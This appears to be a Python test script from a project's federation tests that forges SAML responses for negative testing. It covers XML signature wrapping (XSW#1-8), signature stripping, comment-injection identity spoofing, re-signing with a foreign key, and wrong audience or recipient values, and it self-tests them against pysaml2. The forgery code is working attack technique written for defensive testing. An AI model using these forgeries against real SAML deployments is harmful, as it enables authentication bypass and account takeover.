#!/usr/bin/env python3
"""Forges SAMLResponses for keyway's negative SAML tests: takes a valid base64 SAMLResponse from saml_idp.py and the
IdP's key/certificate, writes a manipulated base64 SAMLResponse. Every variant must be refused by a correct SP
(except the two `*_control` ones, which a correct SP accepts: they prove the harness is not refusing everything).

CLI:   python3 tests/federation/saml_forge.py VARIANT --in resp.b64|- [--idp http://127.0.0.1:PORT |
           --key key.pem --cert cert.pem] [--as EMAIL] [--in-response-to ID] [--value X] [--out FILE|-]
       python3 tests/federation/saml_forge.py --list
       python3 tests/federation/saml_forge.py --self-test
Module: forge(variant, saml_response_b64, key_pem=b"…", cert_pem=b"…", attacker="attacker@evil.example",
              in_response_to=None, value=None) -> str (base64)
       (--idp fetches the key and certificate from saml_idp.py's test-only /key.pem and /cert.pem.)

"Re-signed": after the change every signature the input had is computed again with the IdP key (xmlsec1), so the
only defect is the one named; `xmlsec1 --verify` with the IdP certificate passes on every signature.
"Tampered": changed without the key; the signature that covers the change no longer verifies, or (XSW) it still
verifies but covers another element than the one a naive SP reads.

Variants
  expired          re-signed; Conditions NotBefore = now-20min, NotOnOrAfter = now-10min, SubjectConfirmationData
                   NotOnOrAfter = now-10min, IssueInstants = now-20min
  not_yet_valid    re-signed; Conditions NotBefore = now+10min (NotOnOrAfter now+20min)
  unsigned         every ds:Signature removed, nothing else changed
  unsigned_assertion_signed_response_stripped
                   every ds:Signature removed (the Response's and the Assertion's) AND the NameID/e-mail changed to
                   --as: the attack on an IdP that signs only the Response, once the attacker strips it
  response_signature_stripped_control
                   only the Response's ds:Signature removed, the signed Assertion untouched: a CORRECT SP ACCEPTS it
                   when the Assertion was signed (input from sign_assertion=true); refused if the Assertion was not
  xsw1  Somorovsky et al. 2012, XSW#1 (needs a signed Response): a copy of the original Response (its Signature
        removed) is appended inside the Response's own ds:Signature; the outer Response gets ID "_evil_response" and
        its Assertion's NameID/e-mail becomes --as. The signature still verifies (it references the copy).
  xsw2  XSW#2: as xsw1 but the copy is placed as a sibling just before the ds:Signature (detached).
  xsw3  XSW#3 (needs a signed Assertion): an evil Assertion (copy, Signature removed, ID "_evil_assertion",
        NameID/e-mail = --as) is inserted before the signed Assertion.
  xsw4  XSW#4: the evil Assertion WRAPS the signed one: evil copy placed where the original was, the original
        moved inside it as its last child.
  xsw5  XSW#5: the Assertion in place keeps its Signature but gets ID "_evil_assertion" and --as; an unsigned copy
        of the original (original ID) is appended at the end of the Response (the signature references it).
  xsw6  XSW#6: as xsw5 but the unsigned original copy is placed inside the evil Assertion's ds:Signature.
  xsw7  XSW#7: the signed original is moved into a samlp:Extensions element (placed after the Issuer), an evil
        unsigned copy with --as takes its place.
  xsw8  XSW#8: as xsw6 but the original copy sits in a ds:Object inside the evil Assertion's ds:Signature.
  (With both signatures present the Response-level signature breaks for xsw3-8 and the Assertion-level one for
  xsw1/2; the self-test forges each from an input signed only where the shape needs it, which is the real attack.)
  Measured with xmlsec1 1.2.37: in xsw2/3/4/5/7 the original signature still VERIFIES (the pure wrapping attack:
  the SP must use only the element the signature covers). In xsw1/6/8 the referenced copy sits inside the very
  ds:Signature whose enveloped-signature transform removes that Signature's subtree, so the digest no longer matches:
  against a conforming verifier they are a plain bad signature (still a useful negative test).
  wrong_destination  re-signed; Response Destination = --value or "http://127.0.0.1:9/evil-acs"
  wrong_recipient    re-signed; SubjectConfirmationData Recipient = --value or "http://127.0.0.1:9/evil-acs"
  wrong_audience     re-signed; every Audience = --value or "http://127.0.0.1:9/evil-sp"
  wrong_issuer       re-signed; Response and Assertion Issuer = --value or "http://127.0.0.1:9/evil-idp"
  in_response_to     re-signed; Response InResponseTo and SubjectConfirmationData InResponseTo = --in-response-to
                     (default "_unknown_request"): an unknown or another session's request
  signed_by_other_key  every signature computed again with a fresh self-signed key, whose certificate replaces the
                     IdP's in KeyInfo (an SP that trusts KeyInfo instead of its metadata accepts it)
  comment_injection  re-signed; NameID (and the e-mail attribute value) = "<user>@<domain><!---->.evil.example"
                     built from the original NameID, the CVE-2017-11427 class: the full text is
                     "<user>@<domain>.evil.example" (another account), a naive reader of the first text node sees
                     the victim "<user>@<domain>". (Re-signing is not even needed: C14N drops comments.)
  resigned_control   re-signed, nothing changed: a CORRECT SP ACCEPTS it (proves the re-signing is sound)

--self-test: gets real responses from saml_idp.py (signed: both / Response only / Assertion only), forges every
variant, checks its signatures with `xmlsec1 --verify` trusting only the IdP certificate (re-signed: all verify;
signed_by_other_key: none; unsigned: none; xsw: as said above) and feeds it to pysaml2 7.5.5's SP
(parse_authn_request_response). pysaml2 refuses every variant except: the two controls (accepted, as it must),
comment_injection (accepted, but it reads the whole text "alice@victim.example.evil.example": not vulnerable) and
wrong_recipient (ACCEPTED: pysaml2 does not compare SubjectConfirmationData/@Recipient with its ACS URL — keyway
must). wrong_destination is refused only through an AttributeError inside pysaml2, not a designed check.
"""

import argparse
import base64
import datetime
import json
import os
import shutil
import subprocess
import sys
import tempfile
import urllib.request

from lxml import etree

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"
NS = {"samlp": SAMLP, "saml": SAML, "ds": DS}
XMLSEC1 = shutil.which("xmlsec1") or "/usr/bin/xmlsec1"
ID_ATTRS = ["--id-attr:ID", f"{SAMLP}:Response", "--id-attr:ID", f"{SAML}:Assertion"]

VARIANTS = [
    "expired", "not_yet_valid", "unsigned", "unsigned_assertion_signed_response_stripped",
    "response_signature_stripped_control", "xsw1", "xsw2", "xsw3", "xsw4", "xsw5", "xsw6", "xsw7", "xsw8",
    "wrong_destination", "wrong_recipient", "wrong_audience", "wrong_issuer", "in_response_to",
    "signed_by_other_key", "comment_injection", "resigned_control",
]
# XSW shapes whose referenced copy sits inside the referencing ds:Signature (see the self-test)
XSW_INSIDE_SIGNATURE = {"xsw1", "xsw6", "xsw8"}
RESIGNED = {"expired", "not_yet_valid", "wrong_destination", "wrong_recipient", "wrong_audience", "wrong_issuer",
            "in_response_to", "comment_injection", "resigned_control"}


class ForgeError(Exception):
    pass


# ---- XML helpers ----------------------------------------------------------------------------------------------
def parse(saml_response_b64: str):
    parser = etree.XMLParser(resolve_entities=False, no_network=True, remove_blank_text=False)
    return etree.fromstring(base64.b64decode(saml_response_b64), parser)


def to_b64(root) -> str:
    return base64.b64encode(etree.tostring(root, xml_declaration=True, encoding="UTF-8")).decode()


def q(ns: str, local: str) -> str:
    return f"{{{ns}}}{local}"


def child_signature(elem):
    return elem.find(q(DS, "Signature"))


def assertions(response):
    return response.findall(q(SAML, "Assertion"))


def first_assertion(response):
    found = assertions(response)
    if not found:
        raise ForgeError("the Response has no (unencrypted) Assertion")
    return found[0]


def own(elem, path):
    """Elements matching path below elem but not inside a nested Assertion (for XSW#4, where one wraps another)."""
    out = []
    for e in elem.iterfind(path, NS):
        parent, nested = e.getparent(), False
        while parent is not None and parent is not elem:
            if parent.tag == q(SAML, "Assertion"):
                nested = True
                break
            parent = parent.getparent()
        if not nested:
            out.append(e)
    return out


def name_id_of(assertion) -> str:
    ids = own(assertion, "saml:Subject/saml:NameID")
    return "".join(ids[0].itertext()) if ids else ""


def set_identity(assertion, email: str):
    """The NameID and every AttributeValue equal to the old NameID or named like an e-mail attribute -> email."""
    old = name_id_of(assertion).strip().lower()
    for nid in own(assertion, "saml:Subject/saml:NameID"):
        for c in list(nid):
            nid.remove(c)
        nid.text = email
    for attr in own(assertion, "saml:AttributeStatement/saml:Attribute"):
        is_mail = attr.get("Name", "").lower() in ("email", "mail", "emailaddress", "urn:oid:0.9.2342.19200300.100.1.3") \
            or attr.get("Name", "").lower().endswith("/emailaddress")
        for val in attr.findall(q(SAML, "AttributeValue")):
            if is_mail or (val.text or "").strip().lower() == old:
                val.text = email


def remove(elem):
    if elem is not None:
        elem.getparent().remove(elem)


def iso(dt: datetime.datetime) -> str:
    return dt.strftime("%Y-%m-%dT%H:%M:%SZ")


def copy_without_signature(elem):
    dup = etree.fromstring(etree.tostring(elem))
    remove(child_signature(dup))
    return dup


# ---- xmlsec1 --------------------------------------------------------------------------------------------------
def _run_xmlsec(args, xml_bytes: bytes) -> tuple:
    with tempfile.TemporaryDirectory(prefix="keyway-forge-") as tmp:
        path = os.path.join(tmp, "doc.xml")
        with open(path, "wb") as f:
            f.write(xml_bytes)
        proc = subprocess.run([XMLSEC1, *args, "--output", os.path.join(tmp, "out.xml"), path],
                              capture_output=True, timeout=30)
        out = b""
        if os.path.exists(os.path.join(tmp, "out.xml")):
            with open(os.path.join(tmp, "out.xml"), "rb") as f:
                out = f.read()
        return proc.returncode, out, proc.stderr.decode("utf-8", "replace")


def resign(root, key_pem: bytes, cert_pem: bytes):
    """Computes again every ds:Signature that is a direct child of an Assertion or of the Response, Assertions
    first (the Response's digest covers them), with key_pem; KeyInfo gets cert_pem. Returns the new root."""
    with tempfile.TemporaryDirectory(prefix="keyway-forge-key-") as tmp:
        key_file, cert_file = os.path.join(tmp, "key.pem"), os.path.join(tmp, "cert.pem")
        with open(key_file, "wb") as f:
            f.write(key_pem)
        with open(cert_file, "wb") as f:
            f.write(cert_pem)
        targets = [a.get("ID") for a in root.iter(q(SAML, "Assertion")) if child_signature(a) is not None]
        if child_signature(root) is not None:
            targets.append(root.get("ID"))
        if not targets:
            raise ForgeError("nothing to re-sign: the input has no signature")
        for sig in root.iter(q(DS, "Signature")):  # xmlsec1 writes the certificate into an empty X509Data
            for x509data in sig.iter(q(DS, "X509Data")):
                for c in list(x509data):
                    x509data.remove(c)
        xml = etree.tostring(root, xml_declaration=True, encoding="UTF-8")
        for node_id in targets:
            rc, out, err = _run_xmlsec(["--sign", "--privkey-pem", f"{key_file},{cert_file}", *ID_ATTRS,
                                        "--node-id", node_id], xml)
            if rc != 0:
                raise ForgeError(f"xmlsec1 --sign failed for {node_id}: {err.strip()}")
            xml = out
        return etree.fromstring(xml)


def verify_signatures(saml_response_b64: str, cert_pem: bytes) -> list:
    """[(what the signature's Reference points at, True/False)] for every ds:Signature in the document, each checked
    by `xmlsec1 --verify` with only cert_pem trusted (KeyInfo ignored)."""
    xml = base64.b64decode(saml_response_b64)
    root = etree.fromstring(xml)
    sigs = list(root.iter(q(DS, "Signature")))
    results = []
    with tempfile.TemporaryDirectory(prefix="keyway-forge-verify-") as tmp:
        cert_file = os.path.join(tmp, "cert.pem")
        with open(cert_file, "wb") as f:
            f.write(cert_pem)
        for i, sig in enumerate(sigs, start=1):
            ref = sig.find("ds:SignedInfo/ds:Reference", NS)
            where = ref.get("URI") if ref is not None else "?"
            xpath = f"(//*[local-name()='Signature' and namespace-uri()='{DS}'])[{i}]"
            rc, _out, _err = _run_xmlsec(["--verify", "--enabled-key-data", "x509", "--pubkey-cert-pem", cert_file,
                                          "--enabled-reference-uris", "empty,same-doc", *ID_ATTRS,
                                          "--node-xpath", xpath], xml)
            results.append((where, rc == 0))
    return results


def make_other_key():
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    from saml_idp import make_key_and_cert  # same generator as the IdP, another key
    return make_key_and_cert("not the IdP")


# ---- the variants ---------------------------------------------------------------------------------------------
def forge(variant: str, saml_response_b64: str, key_pem: bytes = None, cert_pem: bytes = None,
          attacker: str = "attacker@evil.example", in_response_to: str = None, value: str = None) -> str:
    if variant not in VARIANTS:
        raise ForgeError(f"unknown variant {variant}; variants: {', '.join(VARIANTS)}")
    root = parse(saml_response_b64)
    if root.tag != q(SAMLP, "Response"):
        raise ForgeError("not a samlp:Response")
    now = datetime.datetime.now(datetime.timezone.utc)
    needs_key = variant in RESIGNED
    if needs_key and not (key_pem and cert_pem):
        raise ForgeError(f"{variant} is re-signed: give the IdP key and certificate")

    if variant == "expired":
        for e in root.iter(q(SAML, "Conditions")):
            e.set("NotBefore", iso(now - datetime.timedelta(minutes=20)))
            e.set("NotOnOrAfter", iso(now - datetime.timedelta(minutes=10)))
        for e in root.iter(q(SAML, "SubjectConfirmationData")):
            e.set("NotOnOrAfter", iso(now - datetime.timedelta(minutes=10)))
        for e in [root, *root.iter(q(SAML, "Assertion"))]:
            e.set("IssueInstant", iso(now - datetime.timedelta(minutes=20)))
        for e in root.iter(q(SAML, "AuthnStatement")):
            e.set("AuthnInstant", iso(now - datetime.timedelta(minutes=20)))
    elif variant == "not_yet_valid":
        for e in root.iter(q(SAML, "Conditions")):
            e.set("NotBefore", iso(now + datetime.timedelta(minutes=10)))
            e.set("NotOnOrAfter", iso(now + datetime.timedelta(minutes=20)))
    elif variant == "unsigned":
        for sig in list(root.iter(q(DS, "Signature"))):
            remove(sig)
    elif variant == "unsigned_assertion_signed_response_stripped":
        for sig in list(root.iter(q(DS, "Signature"))):
            remove(sig)
        for a in assertions(root):
            set_identity(a, attacker)
    elif variant == "response_signature_stripped_control":
        if child_signature(root) is None:
            raise ForgeError("the Response is not signed")
        remove(child_signature(root))
    elif variant in ("xsw1", "xsw2"):
        sig = child_signature(root)
        if sig is None:
            raise ForgeError(f"{variant} needs a signed Response (saml_idp.py with sign_response=true)")
        original = copy_without_signature(root)  # keeps the original ID: what the signature references
        if variant == "xsw1":
            sig.append(original)
        else:
            sig.addprevious(original)
        root.set("ID", "_evil_response")
        for a in assertions(root):
            a.set("ID", "_evil_assertion")  # no duplicate ID beside the copy's assertion (xmlsec1 refuses those)
            set_identity(a, attacker)
    elif variant in ("xsw3", "xsw4", "xsw5", "xsw6", "xsw7", "xsw8"):
        signed = first_assertion(root)
        sig = child_signature(signed)
        if sig is None:
            raise ForgeError(f"{variant} needs a signed Assertion (saml_idp.py with sign_assertion=true)")
        if variant in ("xsw3", "xsw4", "xsw7"):
            evil = copy_without_signature(signed)
            evil.set("ID", "_evil_assertion")
            set_identity(evil, attacker)
            signed.addprevious(evil)
            if variant == "xsw4":
                evil.append(signed)       # the signed original now lives inside the evil assertion
            elif variant == "xsw7":
                ext = etree.Element(q(SAMLP, "Extensions"))
                issuer = root.find(q(SAML, "Issuer"))
                (issuer.addnext(ext) if issuer is not None else root.insert(0, ext))
                ext.append(signed)        # the signed original is hidden in Extensions (any content allowed)
        else:  # xsw5, xsw6, xsw8: the evil one is the element in place, it keeps the (now dangling) Signature
            original = copy_without_signature(signed)
            signed.set("ID", "_evil_assertion")
            set_identity(signed, attacker)
            if variant == "xsw5":
                root.append(original)
            elif variant == "xsw6":
                sig.append(original)
            else:
                obj = etree.SubElement(sig, q(DS, "Object"))
                obj.append(original)
    elif variant == "wrong_destination":
        root.set("Destination", value or "http://127.0.0.1:9/evil-acs")
    elif variant == "wrong_recipient":
        for e in root.iter(q(SAML, "SubjectConfirmationData")):
            e.set("Recipient", value or "http://127.0.0.1:9/evil-acs")
    elif variant == "wrong_audience":
        for e in root.iter(q(SAML, "Audience")):
            e.text = value or "http://127.0.0.1:9/evil-sp"
    elif variant == "wrong_issuer":
        for e in [root.find(q(SAML, "Issuer")), *(a.find(q(SAML, "Issuer")) for a in assertions(root))]:
            if e is not None:
                e.text = value or "http://127.0.0.1:9/evil-idp"
    elif variant == "in_response_to":
        irt = in_response_to or "_unknown_request"
        root.set("InResponseTo", irt)
        for e in root.iter(q(SAML, "SubjectConfirmationData")):
            e.set("InResponseTo", irt)
    elif variant == "signed_by_other_key":
        other_key, other_cert = make_other_key()
        if not list(root.iter(q(DS, "Signature"))):
            raise ForgeError("the input has no signature to replace")
        root = resign(root, other_key, other_cert)
    elif variant == "comment_injection":
        for a in assertions(root):
            victim = name_id_of(a).strip()
            for nid in own(a, "saml:Subject/saml:NameID"):
                for c in list(nid):
                    nid.remove(c)
                nid.text = victim
                comment = etree.Comment("")
                nid.append(comment)
                comment.tail = ".evil.example"
            for val in own(a, "saml:AttributeStatement/saml:Attribute/saml:AttributeValue"):
                if (val.text or "").strip().lower() == victim.lower():
                    for c in list(val):
                        val.remove(c)
                    val.text = victim
                    comment = etree.Comment("")
                    val.append(comment)
                    comment.tail = ".evil.example"
    elif variant == "resigned_control":
        pass

    if needs_key:
        root = resign(root, key_pem, cert_pem)
    return to_b64(root)


# ---- self-test ------------------------------------------------------------------------------------------------
def _start_idp(cfg: dict):
    here = os.path.dirname(os.path.abspath(__file__))
    proc = subprocess.Popen([sys.executable, os.path.join(here, "saml_idp.py")], stdout=subprocess.PIPE,
                            env={**os.environ, "SAML_IDP_PORT": "0", "SAML_IDP_CONFIG": json.dumps(cfg)}, text=True)
    line = proc.stdout.readline()
    if not line:
        proc.wait(timeout=10)
        raise RuntimeError("saml_idp.py did not start")
    return proc, json.loads(line)


def self_test() -> int:
    """Gets real responses from saml_idp.py (three signing shapes), forges every variant, checks each with
    xmlsec1 (signatures against the IdP certificate) and with pysaml2's SP, and prints the table."""
    import logging
    import requests
    logging.disable(logging.CRITICAL)  # pysaml2 logs every refusal at ERROR on stderr; the table says it all
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    from saml_sp import TestSP, saml_login

    victim, password = "alice@victim.example", "correct horse"
    sp = TestSP("http://127.0.0.1:9/sp/metadata", "http://127.0.0.1:9/sp/acs")
    md_dir = tempfile.mkdtemp(prefix="keyway-forge-selftest-")
    md_file = os.path.join(md_dir, "sp.xml")
    with open(md_file, "w", encoding="utf-8") as f:
        f.write(sp.metadata_xml())
    shapes = {"both": (True, True), "response": (True, False), "assertion": (False, True)}
    # which input shape each variant is forged from (the real attack for XSW: signed only where the shape needs it)
    shape_of = {v: "both" for v in VARIANTS}
    shape_of.update({"xsw1": "response", "xsw2": "response", "unsigned_assertion_signed_response_stripped": "response"})
    shape_of.update({v: "assertion" for v in ("xsw3", "xsw4", "xsw5", "xsw6", "xsw7", "xsw8")})
    # what a correct SP must do; pysaml2's verdict is data (printed), xmlsec1's is checked
    must_accept = {"resigned_control", "response_signature_stripped_control"}
    failures, rows = [], []
    procs = []
    try:
        samples = {}
        for shape, (sign_response, sign_assertion) in shapes.items():
            proc, info = _start_idp({"sp_metadata_file": md_file, "users": [{"email": victim, "password": password}],
                                     "sign_response": sign_response, "sign_assertion": sign_assertion})
            procs.append(proc)
            s = requests.Session()
            sp.set_idp_metadata(s.get(info["metadata_url"]).text)
            key_pem, cert_pem = s.get(info["metadata_url"].replace("/metadata", "/key.pem")).content, \
                s.get(info["metadata_url"].replace("/metadata", "/cert.pem")).content
            req_id, url = sp.authn_request_url(info["entity_id"])
            got = saml_login(s, url, victim, password)
            samples[shape] = dict(b64=got["SAMLResponse"], req_id=req_id, key=key_pem, cert=cert_pem,
                                  idp_md=s.get(info["metadata_url"]).text)
            # baseline: the unmodified response verifies and pysaml2 accepts it
            sp.set_idp_metadata(samples[shape]["idp_md"])
            sp.parse_response(got["SAMLResponse"], {req_id: "/"})
            if not all(ok for _, ok in verify_signatures(got["SAMLResponse"], cert_pem)):
                failures.append(f"baseline_{shape}: xmlsec1 does not verify the IdP's own response")

        for variant in VARIANTS:
            sample = samples[shape_of[variant]]
            forged = forge(variant, sample["b64"], sample["key"], sample["cert"])
            sigs = verify_signatures(forged, sample["cert"])
            sp.set_idp_metadata(sample["idp_md"])
            try:
                resp = sp.parse_response(forged, {sample["req_id"]: "/"})
                verdict, who = "accepted", "".join(resp.assertion.subject.name_id.text or "")
            except Exception as exc:  # pysaml2 raises a different class per check
                verdict, who = f"refused ({type(exc).__name__})", ""
            naive = name_id_of(first_assertion(parse(forged))) if assertions(parse(forged)) else ""
            naive_first_text = (first_assertion(parse(forged)).find("saml:Subject/saml:NameID", NS).text
                                if assertions(parse(forged)) else "")
            sig_text = " ".join(f"{w}:{'ok' if ok else 'BAD'}" for w, ok in sigs) or "none"
            rows.append((variant, shape_of[variant], sig_text, verdict, naive_first_text or naive, who))
            # xmlsec1 expectations
            if variant in RESIGNED and not (sigs and all(ok for _, ok in sigs)):
                failures.append(f"{variant}: re-signed but xmlsec1 does not verify every signature")
            if variant == "signed_by_other_key" and any(ok for _, ok in sigs):
                failures.append(f"{variant}: verifies with the IdP certificate")
            if variant in ("unsigned", "unsigned_assertion_signed_response_stripped") and sigs:
                failures.append(f"{variant}: still has a signature")
            if variant.startswith("xsw"):
                # The attack's premise: the original signature still verifies, the element read first is evil.
                # Except where the original copy sits INSIDE the ds:Signature that references it (xsw1, xsw6, xsw8):
                # the enveloped-signature transform then removes the whole copy, so a conforming verifier (xmlsec1)
                # sees a digest mismatch: those degrade to a plain bad signature.
                inside = variant in XSW_INSIDE_SIGNATURE
                if inside and any(ok for _, ok in sigs):
                    failures.append(f"{variant}: expected the enveloped transform to break the digest")
                if not inside and not any(ok for _, ok in sigs):
                    failures.append(f"{variant}: the wrapped original signature no longer verifies")
                if naive_first_text != "attacker@evil.example":
                    failures.append(f"{variant}: the first Assertion's NameID is not the attacker's")
            if variant in must_accept and verdict != "accepted":
                failures.append(f"{variant}: a control variant is refused by pysaml2: {verdict}")
    finally:
        for proc in procs:
            proc.terminate()
            proc.wait(timeout=10)
        sp.close()
        shutil.rmtree(md_dir, ignore_errors=True)

    widths = [max(len(str(r[i])) for r in rows + [("variant", "input", "xmlsec1 (IdP cert)", "pysaml2 SP",
                                                     "first NameID text", "pysaml2 NameID")]) for i in range(6)]
    header = ("variant", "input", "xmlsec1 (IdP cert)", "pysaml2 SP", "first NameID text", "pysaml2 NameID")
    for r in [header, *rows]:
        print("  ".join(str(c).ljust(w) for c, w in zip(r, widths)))
    for f in failures:
        print(f"FAIL: {f}")
    failed = {f.split(":")[0] for f in failures}
    print(f"{len(VARIANTS) + len(shapes) - len(failed)} passed, {len(failed)} failed")
    return 1 if failures else 0


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("variant", nargs="?", choices=VARIANTS)
    ap.add_argument("--in", dest="infile", default="-", help="base64 SAMLResponse file, - = stdin")
    ap.add_argument("--out", default="-", help="output file, - = stdout")
    ap.add_argument("--idp", help="saml_idp.py base URL: fetch /key.pem and /cert.pem from it")
    ap.add_argument("--key", help="IdP private key PEM file")
    ap.add_argument("--cert", help="IdP certificate PEM file")
    ap.add_argument("--as", dest="attacker", default="attacker@evil.example", help="identity injected by XSW")
    ap.add_argument("--in-response-to", help="for in_response_to")
    ap.add_argument("--value", help="the wrong Destination/Recipient/Audience/Issuer")
    ap.add_argument("--list", action="store_true", help="list the variants")
    ap.add_argument("--self-test", action="store_true", help="forge every variant from a live saml_idp.py and check")
    args = ap.parse_args()
    if args.list:
        print("\n".join(VARIANTS))
        return 0
    if args.self_test:
        return self_test()
    if not args.variant:
        ap.error("a variant is required (or --list / --self-test)")
    key = cert = None
    if args.idp:
        base = args.idp.rstrip("/")
        key = urllib.request.urlopen(base + "/key.pem", timeout=10).read()
        cert = urllib.request.urlopen(base + "/cert.pem", timeout=10).read()
    if args.key:
        key = open(args.key, "rb").read()
    if args.cert:
        cert = open(args.cert, "rb").read()
    data = sys.stdin.read() if args.infile == "-" else open(args.infile, encoding="ascii").read()
    try:
        out = forge(args.variant, "".join(data.split()), key, cert, attacker=args.attacker,
                    in_response_to=args.in_response_to, value=args.value)
    except ForgeError as exc:
        print(f"saml_forge: {exc}", file=sys.stderr)
        return 2
    if args.out == "-":
        print(out)
    else:
        with open(args.out, "w", encoding="ascii") as f:
            f.write(out + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
